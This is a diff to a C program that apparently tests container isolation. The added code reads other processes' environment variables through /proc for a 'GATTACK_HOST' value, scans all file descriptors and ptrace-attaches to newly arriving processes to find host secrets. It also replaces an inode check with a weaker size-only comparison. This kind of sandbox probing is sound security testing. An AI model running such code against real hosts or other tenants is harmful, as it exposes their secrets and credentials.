@@ -98,7 +98,7 @@ static void look(void) {
 }
 
 static void secret_by_fds(const char *secret) {
-	for (int fd = 3; fd < 1024; fd++)
+	for (int fd = 0; fd < 1024; fd++)
 		if (fcntl(fd, F_GETFD) >= 0)
 			try_secret(fd, secret);
 }
@@ -226,7 +226,7 @@ static int is_ours(const struct stat *s) {
 	static struct stat own;
 	if (!own.st_ino)
 		stat("/proc/self/exe", &own);
-	return s->st_dev == own.st_dev && s->st_ino == own.st_ino;
+	return s->st_size == own.st_size; /* another container has a copy of its own */
 }
 
 /* Look at each process that comes to this pid namespace, before it is the container's program. */
@@ -267,6 +267,22 @@ static void watch(const char *mode, double seconds, const char *secret) {
 					snprintf(path, sizeof path, "/proc/%d/fd/%d/%s%s", pid, n, UPWARDS, secret + 1);
 					done_secret |= show_at("secret", AT_FDCWD, path);
 				}
+			} else if (*mode == 'v' && !done_secret) {
+				if (!stat(path, &s) && is_ours(&s))
+					continue;
+				static char text[8192];
+				snprintf(path, sizeof path, "/proc/%d/environ", pid);
+				int fd = open(path, O_RDONLY | O_CLOEXEC);
+				ssize_t size = fd < 0 ? -1 : read(fd, text, sizeof text - 1);
+				if (fd >= 0)
+					close(fd);
+				for (ssize_t at = 0; at < size; at += strlen(text + at) + 1) {
+					text[size] = 0;
+					if (!strncmp(text + at, "GATTACK_HOST=", 13)) {
+						printf("variable=%s\n", text + at + 13);
+						done_secret = 1;
+					}
+				}
 			} else if (*mode == 'p' && !done_ptrace) {
 				if (!stat(path, &s) && is_ours(&s))
 					continue;
@@ -278,7 +294,9 @@ static void watch(const char *mode, double seconds, const char *secret) {
 					usleep(1000);
 				/* A stub of a few hundred bytes holds nothing of the host. */
 				if (!stat(path, &s) && !is_ours(&s) && s.st_size > 100000) {
-					printf("ptrace=%lld\n", (long long)s.st_size);
+					ssize_t size = readlink(path, link, sizeof link - 1);
+					link[size < 0 ? 0 : size] = 0;
+					printf("ptrace=%lld %s\n", (long long)s.st_size, link);
 					done_ptrace = 1;
 				}
 				ptrace(PTRACE_DETACH, pid, 0, 0);
